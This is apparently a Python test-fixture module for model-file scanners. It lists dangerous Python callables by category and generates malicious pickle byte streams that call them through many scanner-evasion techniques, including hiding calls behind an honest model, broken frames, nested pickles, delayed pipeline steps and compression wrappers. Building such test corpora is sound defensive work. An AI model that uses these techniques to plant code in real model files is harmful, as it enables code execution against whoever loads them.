"""Hostile model files, as the public scanners know them: what is called, and how the call is hidden.

After the lists, published bypasses and tests of picklescan, fickling and modelscan. Each file is written here, byte by
byte, and is harmless: what does anything at all makes a folder of the name that it is given.
"""

import bz2
import gzip
import io
import lzma
import pickle
import struct
import tarfile
import zipfile
import zlib
from collections.abc import Callable, Iterator
from typing import Any, Final

import joblib
import lz4.frame
import numpy as np
from joblib.numpy_pickle import NumpyArrayWrapper
from sklearn.linear_model import LogisticRegression
from sklearn.pipeline import make_pipeline
from sklearn.preprocessing import FunctionTransformer, StandardScaler

CALLED: Final = {
    "shells": "os.system os.popen os.execv os.spawnv os.posix_spawn posix.system nt.system subprocess.run "
    "subprocess.call subprocess.Popen subprocess.check_output subprocess.getoutput commands.getoutput "
    "popen2.popen3 pty.spawn asyncio.create_subprocess_shell "
    "asyncio.unix_events._UnixSubprocessTransport._start _posixsubprocess.fork_exec distutils.spawn.spawn "
    "setuptools._distutils.spawn.spawn _osx_support._read_output _aix_support.read_cmd_output "
    "uuid._get_command_stdout _pyrepl.pager.pipe_pager pydoc.pipepager pydoc.tempfilepager "
    "imaplib.IMAP4_stream test.support.script_helper.assert_python_ok multiprocessing.util.spawnv_passfds "
    "webbrowser.open platform.popen joblib.externals.loky.backend.popen_loky_posix.Popen "
    "numpy.distutils.exec_command.exec_command torch.utils.collect_env.run "
    "sklearn.utils._testing.check_output prefect.utilities.processutils.run_process",
    "code": "builtins.eval builtins.exec builtins.compile builtins.__import__ __builtin__.eval builtins.execfile "
    "builtins.type builtins.breakpoint builtins.help types.FunctionType types.CodeType codeop.compile_command "
    "code.InteractiveInterpreter.runcode code.interact runpy.run_path runpy._run_code timeit.timeit "
    "timeit.Timer cProfile.run cProfile.runctx profile.run profile.Profile.runctx pdb.run bdb.Bdb.run "
    "trace.Trace.run doctest.debug_script lib2to3.pgen2.pgen.ParserGenerator idlelib.run.Executive "
    "idlelib.pyshell.ModifiedInterpreter idlelib.autocomplete.AutoComplete.get_entity "
    "idlelib.debugobj.ObjectTreeItem ensurepip._run_pip pip.main numpy.testing._private.utils.runstring "
    "numpy.f2py.crackfortran.getlincoef numpy.f2py.crackfortran._eval_length numpy.core.defchararray.eval "
    "sympy.sympify pandas.eval pandas.core.computation.eval.eval torch.jit.script "
    "torch._dynamo.guards.GuardBuilder.get "
    "torch.fx.experimental.symbolic_shapes.ShapeEnv.evaluate_guards_expression "
    "torch.utils.bottleneck.__main__.run_cprofile torch.utils._config_module.load_config keras.layers.Lambda "
    "scipy.stats._distn_infrastructure.rv_continuous logging.config.listen string.Formatter.vformat",
    "indirection": "builtins.getattr builtins.setattr builtins.vars builtins.globals builtins.map builtins.filter "
    "builtins.iter builtins.property operator.attrgetter operator.methodcaller operator.itemgetter "
    "_operator.attrgetter functools.partial functools.reduce functools.partialmethod functools.singledispatch "
    "itertools.starmap importlib.import_module importlib.reload importlib._bootstrap._load_unlocked "
    "pkgutil.resolve_name pydoc.locate inspect.getattr_static sys.modules sys.settrace gc.get_objects "
    "weakref.finalize atexit.register threading.Thread _thread.start_new_thread signal.signal "
    "copy._reconstruct copyreg.add_extension copyreg.__newobj_ex__ concurrent.futures.ThreadPoolExecutor "
    "multiprocessing.Process sched.scheduler contextlib.ExitStack ast.literal_eval numpy.vectorize "
    "numpy.frompyfunc numpy.apply_along_axis numpy.fromfunction numpy.piecewise joblib.delayed "
    "joblib.Parallel joblib.parallel.BatchedCalls sklearn.utils.parallel.delayed cffi.FFI ctypes.CDLL "
    "_ctypes.dlopen numpy.ctypeslib.load_library",
    "loads": "pickle.loads pickle.load pickle.Unpickler _pickle.loads cPickle.loads marshal.loads shelve.open "
    "dill.loads cloudpickle.loads cloudpickle.cloudpickle._make_function dill._dill._create_code joblib.load "
    "joblib.numpy_pickle.load joblib.numpy_pickle_utils.load numpy.load numpy.lib.npyio.load "
    "numpy.core.records.fromfile pandas.read_pickle pandas.io.pickle.read_pickle pandas.read_hdf torch.load "
    "torch.serialization.load yaml.load jsonpickle.decode xgboost.Booster skops.io.load "
    "keras.models.load_model tensorflow.io.read_file statsmodels.load",
    "files": "builtins.open io.open _io.FileIO _io.open io.open_code codecs.open os.remove os.rename os.rmdir "
    "os.symlink os.chmod os.mknod os.fork os.kill os._exit os.environ os.putenv shutil.rmtree shutil.move "
    "shutil.copyfile tempfile.mktemp pathlib.Path.write_text pathlib.Path.unlink linecache.getlines "
    "fileinput.input glob.glob distutils.file_util.write_file numpy.save numpy.savetxt numpy.fromfile "
    "numpy.memmap numpy.loadtxt numpy.genfromtxt numpy.DataSource pandas.HDFStore pandas.read_csv "
    "pandas.read_sql sqlite3.connect zipfile.ZipFile tarfile.open zipimport.zipimporter site.addsitedir "
    "venv.create ensurepip.bootstrap py_compile.compile dbm.open joblib.memory.MemorizedFunc "
    "joblib._store_backends.concurrency_safe_rename logging.FileHandler sklearn.datasets.fetch_openml "
    "sklearn.datasets.load_files",
    "network": "socket.socket socket.create_connection urllib.request.urlopen urllib2.urlopen httplib.HTTPConnection "
    "http.client.HTTPSConnection requests.get requests.api.request httpx.get aiohttp.ClientSession ftplib.FTP "
    "smtplib.SMTP poplib.POP3 telnetlib.Telnet xmlrpc.client.ServerProxy ssl.get_server_certificate "
    "socketserver.TCPServer http.server.HTTPServer asyncio.open_connection boto3.client paramiko.SSHClient "
    "docker.from_env fsspec.open",
}
"""Functions by what they do, dotted; the last word is the name and what comes before it the module."""

PROTO: Final = b"\x80\x04"
_FRAMED: Final = 11  # bytes before the first opcode of a pickle in one frame
HONEST: Final = PROTO + pickle.dumps(LogisticRegression().fit([[0.0], [1.0]], [0, 1]), 4)[_FRAMED:]


def split(dotted: str) -> tuple[bytes, bytes]:
    """Module and name."""
    module, _, name = dotted.rpartition(".")
    return module.encode(), name.encode()


def word(text: bytes) -> bytes:
    """Push a text."""
    return b"\x8c" + bytes([len(text)]) + text


def by_line(dotted: str) -> bytes:
    """Push a global, as protocols up to 3 do."""
    module, name = split(dotted)
    return b"c" + module + b"\n" + name + b"\n"


def by_stack(dotted: str) -> bytes:
    """Push a global, as protocols from 4 do."""
    module, name = split(dotted)
    return word(module) + word(name) + b"\x93"


ESTIMATOR: Final = by_stack("sklearn.linear_model._logistic.LogisticRegression")


def called(dotted: str, argument: bytes) -> bytes:
    """Call it."""
    return by_stack(dotted) + word(argument) + b"\x85R"


def attacks(dotted: str, argument: bytes) -> Iterator[tuple[str, bytes]]:
    """Each way to call a function with one argument, by its name; those that begin with "later" wait for the API."""
    module, name = split(dotted)
    push, text, quoted = by_stack(dotted), word(argument), b"S'" + argument + b"'\n"
    call, line = called(dotted, argument), by_line(dotted)
    parts = {
        "reduce, protocol 0": line + b"(" + quoted + b"tR.",
        "reduce, protocol 2": b"\x80\x02" + line + quoted + b"\x85R.",
        "inst": b"(" + quoted + b"i" + module + b"\n" + name + b"\n.",
        "obj": b"(" + line + quoted + b"o.",
        "through Python 2's names": b"\x80\x02c__builtin__\n__import__\n(S'os'\ntR0" + call + b".",
        "a second pickle": HONEST + PROTO + call + b".",
        "behind an honest model": HONEST[:-1] + call + b"0.",
        "torch's magic number": pickle.dumps(0x1950A86A20F9469CFC6C, 2) + PROTO + call + b".",
    }
    inner = PROTO + call + b"."
    after_proto = {
        "reduce, protocol 4": call + b".",
        "reduce, a frame": b"\x95" + struct.pack("<Q", len(call) + 1) + call + b".",
        "reduce, a frame that lies": b"\x95" + struct.pack("<Q", 2) + b"N0" + call + b".",
        "newobj": push + text + b"\x85\x81.",
        "newobj_ex": push + text + b"\x85}\x92.",
        "memo": push + b"\x940" + text + b"q\x070h\x00h\x07\x85R.",
        "names out of the memo": word(name) + b"q\x090" + word(module) + b"h\x09\x93" + text + b"\x85R.",
        "dup and pop": push + b"(NN12N00" + text + b"\x85R.",
        "its result is thrown away": call + b"0" + HONEST[2:],
        "in the list of an honest model": b"](" + HONEST[2:-1] + call + b"e.",
        "as a state's method": ESTIMATOR + b")\x81}" + word(b"__setstate__") + push + b"sb" + text + b"b.",
        "as a class's method": ESTIMATOR + b"N}" + word(b"f") + push + b"s\x86b.",
        "before a broken end": call,
        "before an unknown opcode": call + b"\xff\xff.",
        "behind many opcodes": b"N0" * 50_000 + call + b".",
        "before a number that is too long": call + b"0\x8b\xff\xff\xff\x7f.",
        "an extension": called("copyreg.add_extension", argument) + b"0\x82\xf0.",
        "a persistent id": call + b"Q.",
        "getattr": by_stack("builtins.getattr")
        + called("builtins.__import__", module)
        + word(name)
        + b"\x86R"
        + text
        + b"\x85R.",
        "partial": by_stack("functools.partial") + push + text + b"\x86R)R.",
        "map": by_stack("builtins.list") + by_stack("builtins.map") + push + b"]" + text + b"a\x86R\x85R.",
        "a pickle in a pickle": by_stack("pickle.loads") + b"C" + bytes([len(inner)]) + inner + b"\x85R.",
        "through another module": word(b"joblib.memory") + word(dotted.encode()) + b"\x93" + text + b"\x85R.",
    }
    yield from parts.items()
    yield from ((way, PROTO + data) for way, data in after_proto.items())
    yield "an array of objects", arrays(call)
    yield "an array whose bytes are opcodes", array_of_opcodes(call)
    yield "later, in a step", later(push)
    yield "later, in a step, by line", later(line)
    yield from ((f"packed by {kind}", pack(inner)) for kind, pack in PACKED.items())


def arrays(call: bytes) -> bytes:
    """In the pickle within an array of objects, as joblib writes it."""
    out = io.BytesIO()
    joblib.dump(np.array(["mark", 1], dtype=object), out, protocol=4)
    return out.getvalue().replace(b"\x8c\x04mark", call)


def array_of_opcodes(call: bytes) -> bytes:
    """For joblib an array of bytes; pickle.load runs on into them."""
    held = b"0" + call + b"."
    wrapper = NumpyArrayWrapper(np.ndarray, (len(held),), "C", np.dtype("u1"), numpy_array_alignment_bytes=None)
    return PROTO + pickle.dumps(wrapper, 4)[_FRAMED:-1] + held + b"."


def later(pushed: bytes) -> bytes:
    """A fitted pipeline that will call the function when the API is asked for a prediction."""
    step = FunctionTransformer(func="later")
    whole = pickle.dumps(make_pipeline(step, StandardScaler().fit([[0.0], [1.0]])), 4)
    return PROTO + whole[_FRAMED:].replace(b"\x8c\x05later", pushed)


def _zipped(data: bytes, *, broken: bool = False) -> bytes:
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w") as made:
        made.writestr("archive/data.pkl", data)
    whole = out.getvalue()
    return whole.replace(zlib.crc32(data).to_bytes(4, "little"), b"\0\0\0\0") if broken else whole


def _tarred(data: bytes) -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as made:
        about = tarfile.TarInfo("pickle")
        about.size = len(data)
        made.addfile(about, io.BytesIO(data))
    return out.getvalue()


def _numpy_file(data: bytes) -> bytes:
    out = io.BytesIO()
    np.save(out, np.array([None], dtype=object), allow_pickle=True)
    return out.getvalue()[:128] + data


PACKED: Final[dict[str, Callable[[bytes], bytes]]] = {
    "zlib": zlib.compress,
    "gzip": gzip.compress,
    "bz2": bz2.compress,
    "xz": lzma.compress,
    "lzma": lambda data: lzma.compress(data, lzma.FORMAT_ALONE),
    "lz4": lz4.frame.compress,
    "zlib twice": lambda data: zlib.compress(zlib.compress(data)),
    "gzip in two members": lambda data: gzip.compress(data[:9]) + gzip.compress(data[9:]),
    "joblib of old": lambda data: b"ZF" + hex(len(data)).encode().ljust(19) + zlib.compress(data),
    "zip": _zipped,
    "zip with a wrong checksum": lambda data: _zipped(data, broken=True),
    "zip behind a pickle": lambda data: pickle.dumps(None) + _zipped(data),
    "tar": _tarred,
    "npy": _numpy_file,
}


def payloads() -> Iterator[tuple[str, str]]:
    """Each function, with its class."""
    for kind, names in CALLED.items():
        yield from ((kind, dotted) for dotted in names.split())


def carried(dotted: str) -> dict[str, bytes]:
    """A function called at once, in both forms of a name, and one that only waits in a model."""
    ways: dict[str, Any] = dict(attacks(dotted, b"canary"))
    return {way: ways[way] for way in ("reduce, protocol 0", "reduce, protocol 4", "later, in a step")}
